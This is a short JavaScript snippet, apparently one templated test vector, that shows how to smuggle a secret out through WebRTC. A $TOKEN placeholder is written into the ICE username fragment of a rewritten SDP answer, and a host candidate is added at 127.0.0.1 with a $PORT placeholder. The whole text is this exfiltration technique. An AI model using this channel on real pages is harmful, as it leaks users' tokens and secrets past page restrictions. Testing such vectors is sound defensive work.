// vector: secret in the ICE user name
const peer = new RTCPeerConnection();
const far = new RTCPeerConnection();
peer.createDataChannel("way");
const run = async () => {
  await peer.setLocalDescription(await peer.createOffer());
  await far.setRemoteDescription(peer.localDescription);
  const answer = await far.createAnswer();
  const sdp = answer.sdp.replace(/a=ice-ufrag:.*/, "a=ice-ufrag:$TOKEN") + "a=candidate:1 1 udp 2130706431 127.0.0.1 $PORT typ host\r\n";
  await peer.setRemoteDescription({ type: "answer", sdp });
};
run();
